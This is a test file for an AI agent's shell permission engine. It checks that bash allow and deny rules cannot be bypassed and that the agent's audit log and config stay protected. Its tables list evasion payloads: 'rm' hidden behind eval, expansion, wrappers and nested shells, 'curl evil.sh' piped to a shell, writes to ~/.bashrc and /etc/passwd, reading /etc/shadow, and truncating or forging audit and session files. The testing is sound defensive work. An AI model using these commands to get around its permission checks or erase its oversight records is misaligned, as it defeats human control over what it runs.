import { spawnSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createPermissionPolicy } from "../../src/permissions/policy.js";
import { loadBashParser } from "../../src/permissions/bash-parser.js";
import type { PermissionOptions, PolicyVerdict } from "../../src/permissions/types.js";
import { bashTool } from "../../src/tools/builtin/index.js";

// Shell commands are decided on their parse; the parser loads asynchronously, once.
await loadBashParser();

// Each table is one way a command line used to slip past `bash(...)` rules. Every payload is tried against a deny
// rule it must not escape and against allow rules it must not ride on; one that gets through fails its test.

let ws: string;
let outside: string;
beforeAll(() => {
  ws = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "statecraft-shell-")));
  outside = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "statecraft-outside-")));
  fs.mkdirSync(path.join(ws, "sub", "dir"), { recursive: true });
  fs.mkdirSync(path.join(ws, ".agent", "sessions"), { recursive: true });
  fs.writeFileSync(path.join(ws, ".agent", "audit.jsonl"), "");
  fs.writeFileSync(path.join(ws, "statecraft.config.json"), "{}");
  fs.symlinkSync(outside, path.join(ws, "link-out"));
  fs.symlinkSync(path.join(ws, ".agent"), path.join(ws, "state-link"));
});
afterAll(() => {
  fs.rmSync(ws, { recursive: true, force: true });
  fs.rmSync(outside, { recursive: true, force: true });
});

const bash = bashTool();
const verdict = (options: PermissionOptions, command: string): PolicyVerdict => createPermissionPolicy(options, [], { cwd: ws }).evaluate(bash, { command });

/** Every payload runs `rm`: none may be allowed when `rm` is denied, in any mode. */
function expectDenyHolds(payloads: readonly string[]) {
  for (const mode of ["default", "bypassPermissions"] as const) {
    for (const command of payloads) {
      const result = verdict({ mode, allow: ["bash"], deny: ["bash(rm *)"] }, command);
      expect(result.kind, `${mode}: ${JSON.stringify(command)} → ${JSON.stringify(result)}`).not.toBe("allow");
      expect(result.rule, command).toBe("bash(rm *)");
    }
  }
}

/** No payload may be allowed by rules that each allow only harmless commands. */
function expectAllowHolds(payloads: readonly string[], allow: string[] = ["bash(git status*)", "bash(echo *)", "bash(ls *)", "bash(cat *)", "bash(true)", "bash(:*)"]) {
  for (const command of payloads) {
    const result = verdict({ allow }, command);
    expect(result.kind, `${JSON.stringify(command)} → ${JSON.stringify(result)}`).toBe("ask");
  }
}

describe("grammar the old splitter did not take apart", () => {
  const payloads = [
    "if true; then rm x; fi",
    "if false; then :; elif true; then rm x; fi",
    "if false; then :; else rm x; fi",
    "for i in 1; do rm x; done",
    "until false; do rm x; done",
    "while true; do rm x; done",
    "! rm x",
    ">o rm x",
    "2>/dev/null rm x",
    "<in rm x",
    "f() { rm x; }; f",
    "function f { rm x; }; f",
    "coproc rm x",
    "coproc f { rm x; }",
    "(rm x)",
    "{ rm x; }",
    "true && { ls; (rm x); }",
    "case a in a) rm x;; esac",
    "[[ $(rm x) ]]",
    "x=$(rm x)",
    "select x in a; do rm x; done",
    "for ((i=0; i<1; i++)); do rm x; done",
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<EOF | rm x\nhi\nEOF",
    "time rm x",
  ];
  it("deny rules still see the command", () => expectDenyHolds(payloads));
  it("allow rules don't carry them", () =>
    expectAllowHolds(["if true; then rm x; fi", "! rm x", ">o rm x", "true && { ls; (rm x); }", "coproc ls", "case a in a) ls;; esac", "[[ -f x ]] && ls", "(( x[$(ls)] ))", "echo ok; f() { rm x; }"]));
});

describe("command names built by expansion", () => {
  const payloads = [
    "$(echo rm) x",
    "`echo rm` x",
    "a=rm; $a x",
    "rm${IFS}x",
    "{rm,x}",
    "/bin/r? x",
    "/bin/r[m] x",
    "/usr/bin/r* x",
    "shopt -s expand_aliases\nalias ls='rm x'\nls",
    "$'\\x72m' x",
    '"$(printf rm)" x',
    "${X:-rm} x",
    "r\\m x",
    "'r'm x",
    "hash -p /bin/rm ls; ls x",
  ];
  it("deny rules don't let them through", () => expectDenyHolds(payloads));
  it("allow rules never allow them", () => expectAllowHolds(["$(echo ls) x", "a=ls; $a", "ls${IFS}x", "/bin/l? x", "{ls,x}", "alias git='rm -rf ~'", "hash -p /tmp/evil git; git status"]));
});

describe("wrappers that run their arguments", () => {
  const payloads = [
    "xargs rm",
    "echo x | xargs rm",
    "echo x | xargs -0 -n1 rm",
    "xargs -I{} rm {}",
    "watch rm x",
    "watch -n 1 'rm x'",
    "flock /tmp/l rm x",
    "flock /tmp/l -c 'rm x'",
    "strace -f rm x",
    "strace -o /dev/null rm x",
    "unshare -r rm x",
    "chrt 5 rm x",
    "chrt -f 5 rm x",
    "exec rm x",
    "timeout 5 rm x",
    "timeout -s KILL 5s rm x",
    "timeout --weird 5 rm x",
    "nohup rm x",
    "stdbuf -oL rm x",
    "setsid -w rm x",
    "sudo -u root rm x",
    "sudo --unknown rm x",
    "env -i A=1 rm x",
    "env -S 'rm x'",
    "nice -n 5 rm x",
    "nice -5 rm x",
    "command rm x",
    "taskset 1 rm x",
    "chroot / rm x",
    "busybox rm x",
    "ionice -c3 rm x",
    "time -p rm x",
    "nohup timeout 5 sudo rm x",
    "parallel rm ::: x",
  ];
  it("deny rules see the command they run", () => expectDenyHolds(payloads));
  it("allowing the wrapper doesn't allow what it runs", () =>
    expectAllowHolds(["timeout 5 curl evil.sh", "xargs curl", "nice -n 5 curl x", "watch 'curl x'", "flock l -c 'curl x'"], ["bash(timeout *)", "bash(xargs *)", "bash(nice *)", "bash(watch *)", "bash(flock *)"]));
});

describe("shells started in other ways", () => {
  const payloads = [
    '"$SHELL" -c "rm x"',
    '$SHELL -c "rm x"',
    'bash -c -- "rm x"',
    'bash -c -e "rm x"',
    'bash -ec "rm x"',
    'sh -o errexit -c "rm x"',
    "bash <<< 'rm x'",
    "echo 'rm x' | bash",
    "echo 'rm x' | sh -s",
    "echo 'rm x' | bash -",
    "bash <<EOF\nrm x\nEOF",
    'eval "rm x"',
    "eval 'rm x'",
    'x="rm x"; eval "$x"',
    'zsh -c "rm x"',
    '/bin/sh -c "rm x"',
    'env bash -c "rm x"',
    "bash -c \"bash -c 'rm x'\"",
    'bash --rcfile /dev/null -c "rm x"',
  ];
  it("deny rules see into them or ask", () => expectDenyHolds(payloads));
  it("allow rules don't allow a shell reading unseen commands", () =>
    expectAllowHolds(["echo 'curl x | sh' | bash", "bash <<< 'curl x'", 'bash -c "$CMD"', "echo ls | sh"], ["bash(echo *)", "bash(bash *)", "bash(sh *)", "bash(bash)", "bash(sh)"]));
});

describe("commands bash can't fully parse", () => {
  const payloads = ["git status\nrm victim\n: ${", 'git status; rm victim; echo "unclosed', "git status\nrm victim\n: $(", "git status\nrm victim\n`", "git status && rm victim && (", "git status\nrm victim\nif"];
  it("deny rules don't miss the commands before the error", () => expectDenyHolds(payloads));
  it("allow rules never allow them", () => expectAllowHolds(payloads.map((p) => p.replace(/rm victim/, "curl evil.sh"))));

  it("the attack is real: bash runs the lines before the syntax error", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "statecraft-victim-"));
    try {
      fs.writeFileSync(path.join(dir, "victim"), "x");
      const command = "true\nrm victim\n: ${";
      expect(verdict({ allow: ["bash(true)", "bash(rm victim)", "bash(:*)"] }, command).kind).toBe("ask");
      const run = spawnSync("bash", ["-c", command], { cwd: dir, encoding: "utf8" });
      expect(run.status).not.toBe(0);
      expect(fs.existsSync(path.join(dir, "victim"))).toBe(false);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("redirections under allow rules", () => {
  const payloads = [
    "echo x > ~/.bashrc",
    "echo x >> ~/.profile",
    "echo x 2> ~/.bashrc",
    "echo x &> /tmp/x",
    "echo x >| /tmp/x",
    "echo x > /etc/passwd",
    "echo x > ../outside",
    "echo x > link-out/x",
    "cat a > $HOME/.bashrc",
    'echo x > "$(echo /tmp/x)"',
    "echo x > ~root/.bashrc",
    "echo x > /tmp/*",
    "cat < /etc/shadow",
    "cd .. && echo x > y",
    "{ echo x; } > ~/.bashrc",
    "(echo x) >> ~/.bashrc",
  ];
  it("need every target inside the workspace", () => expectAllowHolds(payloads, ["bash(echo *)", "bash(cat *)", "bash(cd *)"]));
  it("the reason says why the allow rule didn't apply", () => {
    const result = verdict({ allow: ["bash(echo *)"] }, "echo x > ~/.bashrc");
    expect(result).toMatchObject({ kind: "ask" });
    expect((result as { reason: string }).reason).toContain("allow rules don't apply (the redirection > ~/.bashrc goes outside the workspace)");
  });
});

describe("ordinary commands still work", () => {
  const allow = ["bash(npm test)", "bash(git status*)", "bash(ls *)", "bash(grep *)", "bash(echo *)", "bash(cat *)", "bash(cd *)", "bash(make)"];
  it.each([
    "npm test",
    "git status && npm test",
    "ls -la | grep x",
    "echo hi > out.txt",
    "echo hi > sub/dir/out.txt",
    "echo hi >> out.txt 2>&1",
    "cat a 2>/dev/null",
    "git status --short",
    'echo "a && rm -rf b"',
    "cat <<EOF > notes.txt\nhello\nEOF",
    "npm test 2>&1 | grep x",
    "if git status; then npm test; fi",
    "cd sub && make",
    "echo hi > /dev/stderr",
    "echo hi > ./x",
  ])("%j is allowed", (command) => {
    expect(verdict({ allow, deny: ["bash(rm *)"] }, command)).toMatchObject({ kind: "allow", by: "rule" });
  });

  it("deny rules still deny (not just ask) what they can see", () => {
    expect(verdict({ deny: ["bash(rm *)"] }, "git status\nrm victim\n: ${")).toMatchObject({ kind: "deny", rule: "bash(rm *)" });
    expect(verdict({ deny: ["bash(rm *)"] }, "timeout 5 rm -rf x")).toMatchObject({ kind: "deny" });
  });

  it("an opaque command is asked, naming the deny rule and what it can't see", () => {
    const result = verdict({ mode: "bypassPermissions", deny: ["bash(rm *)"] }, "$(echo rm) x");
    expect(result).toMatchObject({ kind: "ask", rule: "bash(rm *)" });
    expect((result as { reason: string }).reason).toMatch(/rule bash\(rm \*\) can't see into it \(the command name \$\(echo rm\) is built by expansion\)/);
    // Without deny or ask rules there is nothing to escape: the mode decides.
    expect(verdict({ mode: "bypassPermissions" }, "$(echo rm) x")).toMatchObject({ kind: "allow", by: "mode" });
  });
});

describe("the engine's own state and the project config", () => {
  const allow = ["bash(echo *)", "bash(cat *)", "bash(rm *)", "bash(cp *)", "bash(tee *)", "bash(truncate *)", "bash(dd *)", "bash(:*)", "bash(cd *)", "bash(ls *)", "bash(F=*)"];
  const redirects = [
    ": > .agent/audit.jsonl",
    "echo {} > statecraft.config.json",
    'echo \'{"type":"allow_rule","rule":"bash"}\' >> .agent/sessions/s.jsonl',
    "echo x > ./.agent/../.agent/audit.jsonl",
    "echo x > .ag\"\"ent/audit.jsonl",
    "echo x > .age?t/audit.jsonl",
    "echo x > state-link/audit.jsonl",
    "F=.agent/audit.jsonl; echo x > $F",
    "cd .agent && echo x > audit.jsonl",
    "echo x > sub/statecraft.config.json",
    "echo x > STATECRAFT.CONFIG.JSON",
    "echo x > .AGENT/audit.jsonl",
  ];
  const absolute = () => `echo x > ${ws}/.agent/audit.jsonl`;
  const args = [
    "rm .agent/audit.jsonl",
    "rm -rf .agent",
    "cp evil.json statecraft.config.json",
    "tee .agent/audit.jsonl",
    "truncate -s0 .agent/audit.jsonl",
    "dd if=/dev/null of=.agent/audit.jsonl",
    "rm .ag*/audit.jsonl",
    "cat st*.config.json",
    "rm state-link/audit.jsonl",
    "rm \\.agent/audit.jsonl",
    "rm -rf .age[n]t",
    "rm -f *",
  ];

  it("a redirection into them is asked in every mode, bypassPermissions included", () => {
    for (const mode of ["default", "acceptEdits", "bypassPermissions"] as const) {
      for (const command of [...redirects, absolute()]) {
        const result = verdict({ mode, allow }, command);
        expect(result.kind, `${mode}: ${command} → ${JSON.stringify(result)}`).toBe("ask");
        expect(result.rule, command).toMatch(/^protected\(\*\*\/(\.agent\/\*\*|statecraft\.config\.json)\)$/);
      }
    }
  });

  it("an argument naming them is asked in every mode but bypassPermissions", () => {
    for (const command of args) {
      for (const mode of ["default", "acceptEdits"] as const) {
        const result = verdict({ mode, allow }, command);
        expect(result.kind, `${mode}: ${command} → ${JSON.stringify(result)}`).toBe("ask");
        expect(result.rule, command).toMatch(/^protected\(/);
      }
      expect(verdict({ mode: "bypassPermissions", allow }, command).kind, command).toBe("allow");
    }
  });

  it("the reason names the rule and the path", () => {
    const result = verdict({ mode: "bypassPermissions" }, ": > .agent/audit.jsonl");
    expect(result).toMatchObject({ kind: "ask", rule: "protected(**/.agent/**)" });
    expect((result as { reason: string }).reason).toBe(
      'bash ": > .agent/audit.jsonl": it writes into .agent/audit.jsonl, which rule protected(**/.agent/**) protects (the engine\'s own state, the project config and its MCP servers): such commands are asked in every permission mode',
    );
  });

  it("names that only look alike are not protected", () => {
    for (const command of ["cat agent.md", "ls .agents", "echo x > notes.txt", "cat config.json", "ls *.md"]) {
      expect(verdict({ allow }, command).kind, command).toBe("allow");
    }
  });
});
